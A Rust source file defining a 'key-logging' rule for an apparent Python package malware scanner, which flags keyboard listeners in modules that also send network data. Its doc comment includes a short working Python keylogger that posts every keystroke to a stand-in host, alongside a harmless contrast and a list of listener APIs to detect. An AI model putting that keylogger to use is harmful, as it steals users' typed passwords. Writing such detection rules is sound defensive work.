//! ## What it detects
//!
//! A listener for every key that is pressed anywhere, in a module that also sends: by mail, to a messenger, by HTTP.
//!
//! ## Why it is bad
//!
//! What is typed are passwords.
//!
//! ## Innocent lookalikes
//!
//! Hotkeys and automation listen too; they send nothing.
//!
//! ## Bad
//!
//! ```python x/__init__.py
//! import requests
//! from pynput import keyboard
//! typed = []
//! def pressed(key):
//!     typed.append(str(key))
//!     requests.post('http://x.example.invalid', data=''.join(typed))
//! def watch():
//!     keyboard.Listener(on_press=pressed).start()
//! ```
//!
//! ## Good
//!
//! ```python x/__init__.py
//! from pynput import keyboard
//! def pressed(key):
//!     print(key)
//! def watch():
//!     keyboard.Listener(on_press=pressed).start()
//! ```

use fondaco_python::{Api, Call};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};

use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("key-logging"),
    title: "notes keys and sends them",
    severity: Severity::High,
    confidence: Confidence::Medium,
    behaviour: Some(Behaviour::Surveillance),
    weight: 1.6,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for unit in package.units() {
        let sends = unit.calls.iter().any(|call| call.api == Some(Api::NetworkSend));
        for call in unit.calls.iter().filter(|call| sends && listens(call)) {
            hits.call(unit, call, format!("{} in a module that sends to the network", call.callee));
        }
    }
}

fn listens(call: &Call) -> bool {
    const LISTENERS: [&str; 5] =
        ["pynput.keyboard.Listener", "keyboard.on_press", "keyboard.on_release", "keyboard.hook", "keyboard.read_event"];
    LISTENERS.contains(&call.callee.as_str()) || call.callee.contains("GetAsyncKeyState")
}
